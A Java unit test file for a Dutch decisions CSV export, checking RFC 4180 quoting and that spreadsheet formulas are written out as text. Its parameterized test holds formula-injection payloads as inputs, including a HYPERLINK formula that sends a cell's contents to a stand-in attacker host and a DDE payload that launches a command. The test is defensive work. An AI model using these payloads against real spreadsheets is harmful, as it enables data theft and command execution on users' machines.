package nl.regioregister.query.historie;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Arrays;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** CSV as RFC 4180 writes it, safe to open in a spreadsheet program. */
class BesluitenExportTest {

    @Test
    void een_veld_met_komma_aanhalingsteken_of_regeleinde_staat_tussen_aanhalingstekens_met_verdubbelde_tekens() {
        assertThat(BesluitenExport.csvVeld("AB 5 maart 2025")).isEqualTo("AB 5 maart 2025");
        assertThat(BesluitenExport.csvVeld("Voordracht, stuurgroep")).isEqualTo("\"Voordracht, stuurgroep\"");
        assertThat(BesluitenExport.csvVeld("zie \"bijlage\"")).isEqualTo("\"zie \"\"bijlage\"\"\"");
        assertThat(BesluitenExport.csvVeld("regel 1\nregel 2")).isEqualTo("\"regel 1\nregel 2\"");
        assertThat(BesluitenExport.csvVeld(null)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"=HYPERLINK(\"https://aanvaller.example/?d=\"&A1,\"klik\")", "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"})
    void een_veld_dat_een_rekenblad_als_formule_zou_uitvoeren_wordt_als_tekst_geschreven(String waarde) {
        String veld = BesluitenExport.csvVeld(waarde);

        assertThat(veld).startsWith("\"'").endsWith("\"");
        assertThat(veld.substring(2, veld.length() - 1).replace("\"\"", "\"")).isEqualTo(waarde);
    }

    @Test
    void een_formule_in_een_besluit_komt_in_de_export_als_tekst() {
        String regel = BesluitenExport.csvRegel(Arrays.asList("7", "=1+1", "gewone tekst", "a=b", "-"));

        assertThat(regel).isEqualTo("7,\"'=1+1\",gewone tekst,a=b,\"'-\"\r\n");
    }

    @Test
    void een_regel_scheidt_velden_met_komma_s_en_eindigt_met_crlf() {
        assertThat(BesluitenExport.csvRegel(Arrays.asList("1", null, "a,b"))).isEqualTo("1,,\"a,b\"\r\n");
    }
}
